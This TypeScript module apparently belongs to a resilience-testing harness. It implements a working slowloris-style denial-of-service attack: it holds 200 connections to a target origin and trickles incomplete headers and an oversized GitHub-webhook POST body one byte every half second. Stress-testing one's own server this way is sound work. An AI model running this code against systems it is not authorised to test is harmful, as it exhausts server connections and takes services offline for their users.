import type { StartAttack } from './attack.ts'
import { holdSockets } from './held-sockets.ts'

const CONNECTIONS = 200
const BYTE_MS = 500

/** Sends requests that never end, a byte at a time: half of them headers, half of them the body of a webhook. */
export const slowConnections: StartAttack = origin => {
  let number = 0
  return holdSockets(origin, CONNECTIONS, socket => {
    const { host } = new URL(origin)
    const isHook = number++ % 2 === 0
    socket.resume()
    socket.write(
      isHook
        ? `POST /hooks/github HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n`
        : `GET / HTTP/1.1\r\nhost: ${host}\r\nx-slow: `,
    )
    const timer = setInterval(() => socket.write('x'), BYTE_MS)
    socket.once('close', () => clearInterval(timer))
  })
}
